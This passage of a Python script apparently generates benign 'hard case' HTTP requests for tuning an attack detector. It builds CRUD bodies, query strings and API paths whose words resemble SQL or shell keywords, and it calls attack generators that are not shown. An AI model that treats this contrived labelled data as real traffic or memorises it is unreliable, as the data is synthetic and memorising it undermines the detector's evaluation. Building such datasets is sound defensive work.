         "Ref: PO-2024/118 & PO-2024/119", "Allergies: nuts, gluten", "50% deposit paid; balance on delivery", "Replaces order #4471 (damaged)"]
STATUSES = ["open", "pending", "paid", "shipped", "delivered", "cancelled", "refunded", "on_hold", "draft", "archived"]
TAGS = ["urgent", "vip", "wholesale", "b2b", "repeat", "gift", "eu", "us-east", "new", "sale", "select", "union", "drop-ship", "or-else"]
CITIES = [("Lyon", "69002", "FR"), ("Berlin", "10115", "DE"), ("Austin", "78701", "US"), ("Cork", "T12 X70A", "IE"), ("Osaka", "530-0001", "JP"), ("São Paulo", "01310-100", "BR")]
SEARCH_WORDS = ["red shoes", "coffee or tea", "black and white", "rock & roll", "select size", "drop leaf table", "union jack", "update firmware", "c++ book",
                "o'reilly python", "100% cotton", "tom & jerry", "salt and pepper", "from 10 to 20", "where is my order", "order by phone", "delete account",
                "mac & cheese", "AT&T plan", "script writing", "table tennis", "insert card", "sleep mask", "cat toys", "ls 460 lexus", "id card holder",
                "echo dot", "curl cream", "ping pong balls", "nc state hoodie", "sh-ampoo", "exec chair", "system of a down", "bash cap"]


def _iso(rng: random.Random) -> str:
    return f"2024-{rng.randrange(1, 13):02d}-{rng.randrange(1, 29):02d}T{rng.randrange(24):02d}:{rng.randrange(60):02d}:00Z"


def _crud(rng: random.Random, i: int) -> dict:
    city, zipc, country = rng.choice(CITIES)
    first, last = rng.choice(FIRST), rng.choice(LAST)
    shapes = [
        {"id": i, "name": rng.choice(PRODUCTS), "price": round(rng.uniform(1, 500), 2), "currency": rng.choice(["EUR", "USD", "GBP"]),
         "tags": rng.sample(TAGS, rng.randrange(0, 4)), "status": rng.choice(STATUSES), "notes": rng.choice(NOTES)},
        {"customer": {"id": f"cus_{rng.randrange(10**6):06d}", "name": f"{first} {last}", "email": f"{first.lower()}.{i}@example.com"},
         "address": {"line1": f"{rng.randrange(1, 300)} {rng.choice(['Main St', 'Rue de la Paix', 'Hauptstraße', 'Baker Street'])}", "line2": rng.choice(["", "Apt 4B", "c/o Reception", "Floor 3, Unit 12"]),
                     "city": city, "postal_code": zipc, "country": country}, "status": rng.choice(STATUSES), "created_at": _iso(rng)},
        {"title": rng.choice(["Fix login bug", "Q3 planning", "Update pricing page", "Drop old API version", "Select vendor for CDN", "Order more stock"]),
         "description": rng.choice(NOTES + ["See attached spreadsheet.", "Blocked by the design review.", "Owner: ops; due Friday."]), "due": _iso(rng)[:10],
         "assignee": f"{first} {last}", "priority": rng.choice(["low", "medium", "high"]), "done": rng.random() < 0.3, "labels": rng.sample(TAGS, 2)},
        {"items": [{"sku": f"SKU-{rng.randrange(1000, 9999)}", "qty": rng.randrange(1, 9), "unit_price": round(rng.uniform(1, 99), 2)} for _ in range(rng.randrange(1, 5))],
         "discount": {"code": rng.choice(["", "WELCOME10", "BF-2024", "SPRING-24"]), "percent": rng.choice([0, 5, 10, 15])}, "note": rng.choice(NOTES),
         "delivery_window": {"from": _iso(rng), "to": _iso(rng)}},
        {"user": {"username": f"{first.lower()}_{last.lower().replace(' ', '').replace(chr(39), '')}{i % 100}", "display_name": f"{first} {last}",
                  "bio": rng.choice(["Coffee, code, cats.", "Product @ Example; ex-Acme.", "he/him | Berlin", "I build things & break things.", "Runner / reader / dad"]),
                  "website": rng.choice(["", "https://example.com", "https://blog.example.org/about"]), "locale": rng.choice(["en-GB", "fr-FR", "de-DE", "pt-BR"])},
         "settings": {"theme": rng.choice(["dark", "light"]), "notifications": {"email": True, "sms": False}}},
        {"event": rng.choice(["page_view", "click", "signup", "purchase"]), "properties": {"path": rng.choice(["/", "/pricing", "/docs/getting-started", "/blog/2024/05/release"]),
         "referrer": rng.choice(["", "https://www.google.com/", "https://news.ycombinator.com/"]), "duration_ms": rng.randrange(10, 90000)}, "ts": _iso(rng)},
    ]
    return shapes[i % len(shapes)]


def _list_query(rng: random.Random) -> str:
    parts = []
    pool = [
        lambda: f"sort={rng.choice(['-created_at', 'name', '-price', 'updated_at,-id', '-score'])}",
        lambda: f"filter[status]={rng.choice(STATUSES)}", lambda: f"filter[tag]={rng.choice(TAGS)}",
        lambda: f"fields={','.join(rng.sample(['id', 'name', 'price', 'status', 'created_at', 'total', 'email'], 3))}",
        lambda: "fields[orders]=id,total,status", lambda: f"include={rng.choice(['lines', 'customer', 'lines,customer'])}",
        lambda: "q=" + quote(rng.choice(SEARCH_WORDS)), lambda: "search=" + quote(rng.choice(SEARCH_WORDS)).replace("%20", "+"),
        lambda: f"page[size]={rng.choice([10, 25, 50, 100])}", lambda: f"page[number]={rng.randrange(1, 40)}", lambda: f"page={rng.randrange(1, 40)}&per_page=50",
        lambda: f"created_at[gte]={_iso(rng)[:10]}&created_at[lte]={_iso(rng)[:10]}", lambda: f"from={_iso(rng)[:10]}&to={_iso(rng)[:10]}",
        lambda: f"price_min={rng.randrange(0, 50)}&price_max={rng.randrange(50, 500)}", lambda: f"price[gt]={rng.randrange(0, 50)}&price[lt]={rng.randrange(50, 500)}",
        lambda: f"since={quote(_iso(rng))}", lambda: f"cursor={base64.urlsafe_b64encode(str(rng.randrange(10**9)).encode()).decode()}",
        lambda: f"order=desc&order_by={rng.choice(['id', 'created_at', 'name'])}", lambda: f"limit={rng.choice([10, 20, 100])}&offset={rng.randrange(0, 1000, 20)}",
        lambda: "filter=" + quote(rng.choice(["status eq 'open'", "price gt 10 and price lt 100", "name eq 'O''Brien'", "tag eq 'sale' or tag eq 'new'"])),
        lambda: f"status={rng.choice(STATUSES)}&status={rng.choice(STATUSES)}", lambda: f"ids={','.join(str(rng.randrange(1, 999)) for _ in range(4))}",
        lambda: "expand=" + rng.choice(["data.customer", "items.product", "owner"]), lambda: f"locale={rng.choice(['en', 'fr-CA', 'pt_BR'])}",
        lambda: "tags=" + quote(",".join(rng.sample(TAGS, 2))), lambda: "sort_by=" + rng.choice(["created_at:desc", "price:asc", "name.asc"]),
        lambda: "where=" + quote(json.dumps({"status": rng.choice(STATUSES)})),
        lambda: "q=" + quote(rng.choice(["(red OR blue) AND size:M", "shoes and (red or blue)", "(a and b) or (c and d)",
                                         "less sugar; more salt", "tea | coffee", "(vegan OR vegetarian) AND NOT nuts"])), lambda: "category=" + quote(rng.choice(["Home & Garden", "Books / Comics", "Toys (0-3)"])),
    ]
    for _ in range(rng.randrange(1, 5)):
        parts.append(rng.choice(pool)())
    return "&".join(parts)


# Paths an API really serves that share words with probe paths (config, console, logs, scripts).
API_PATHS = [
    "/api/v1/configs/42", "/api/console-sessions", "/docs/administrator-guide", "/api/files/report.2024.pdf", "/api/items/123/history",
    "/api/users/me/settings", "/api/logs/search", "/api/exports/orders.csv", "/static/app.3f9a1c.js", "/static/css/main.css",
    "/api/templates/welcome-email", "/api/backup-jobs/17", "/favicon.ico", "/robots.txt", "/.well-known/openid-configuration",
    "/.well-known/jwks.json", "/api/v2/customers/cus_0042/addresses", "/api/reports/2024-05/summary", "/api/admin/users", "/api/settings/notifications",
    "/api/environments/staging", "/api/git/commits/9f8a7b6", "/api/deployments/43/logs", "/api/scripts/run-history", "/api/solutions/12",
    "/api/consoles/list", "/health", "/healthz", "/api/status", "/api/metrics/latency", "/api/php-versions", "/api/aspects/3",
    "/api/uploads/avatar.png", "/api/docs/openapi.json", "/api/pages/about-us", "/api/blog/posts/how-we-test", "/api/v1/pods-of-whales",
    "/api/teams/ops/members", "/api/catalog/v2/items", "/api/invoices/INV-2024-0042.pdf",
]


def benign3() -> list[dict]:
    out: list[dict] = []
    r = rng3

    def ua() -> str:
        return r.choice(["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
                         "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148", "python-requests/2.31.0",
                         "axios/1.6.8", "okhttp/4.12.0", "curl/8.5.0", "PostmanRuntime/7.37.0"])

    def add(kind: str, req: dict) -> None:
        out.append({"id": f"benign3-{kind}-{len(out):04d}", "category": "benign", "kind": kind,
                    "source": "tuning: third batch (benign hard cases)", "request": req})

    def post(body: object, path: str, method: str = "POST") -> dict:
        return {"method": method, "path": path, "query": "", "headers": {"user-agent": ua(), "content-type": "application/json"},
                "body": json.dumps(body, ensure_ascii=r.random() < 0.5)}

    for i in range(300):
        text = r.choice(SHELL_TEMPLATES).format(c=r.choice(SHELL_CMDS), n=r.randrange(1000, 9999))
        if i % 4 == 3:
            text += " Also " + r.choice(SHELL_TEMPLATES).format(c=r.choice(SHELL_CMDS), n=r.randrange(1000, 9999)).lower()
        body = r.choice([{"ticket_id": 4000 + i, "comment": text, "internal": r.random() < 0.5},
                         {"body": text, "author": r.choice(FIRST)}, {"message": {"text": text, "channel": "#ops"}}])
        add("support_shell", post(body, r.choice(["/api/tickets/comments", "/api/comments", "/api/messages"])))
    for i in range(220):
        text = r.choice(SQL_TEMPLATES).format(s=r.choice(SQL_SNIPPETS))
        add("code_review_sql", post({"pull_request": 900 + i, "path": r.choice(["app/db.py", "src/repo/orders.ts", "migrations/0042.sql"]),
                                     "line": r.randrange(1, 400), "body": text}, "/api/reviews/comments"))
    for i in range(600):
        body = _crud(r, i)
        path, method = r.choice([("/api/items", "POST"), (f"/api/items/{i}", "PUT"), (f"/api/orders/{i}", "PATCH"), ("/api/customers", "POST"), ("/api/events", "POST")])
        add("plain_crud", post(body, path, method))
    for i, path in enumerate(API_PATHS * 2):
        add("api_paths", {"method": ("GET", "HEAD")[i % 2], "path": path, "query": "" if i % 3 else _list_query(r),
                          "headers": {"user-agent": ua()}, "body": None})
    for i in range(400):
        headers = {"user-agent": ua(), "accept": "application/json"}
        if i % 3 == 0:
            headers["referer"] = "https://app.example.com/orders?" + _list_query(r)
        add("list_query", {"method": "GET", "path": r.choice(["/api/orders", "/api/products", "/api/v2/customers", "/api/tickets", "/api/search"]),
                           "query": _list_query(r), "headers": headers, "body": None})
    return out


def main() -> None:
    first = attacks(), benign()  # before the third batch: it draws on the shared rng too
    third = attacks3(), benign3()
    for name, items in (
        ("attacks.jsonl",
         first[0] + third[0] + attacks4() + attacks5() + attacks6() + attacks7() + attacks8()),
        ("benign.jsonl",
         first[1] + third[1] + benign4() + benign5() + benign6() + benign7() + benign8()),
    ):
        with (HERE / name).open("w") as fh:
            for item in items:
                fh.write(json.dumps(item, ensure_ascii=False) + "\n")
        print(name, len(items))


if __name__ == "__main__":
    main()
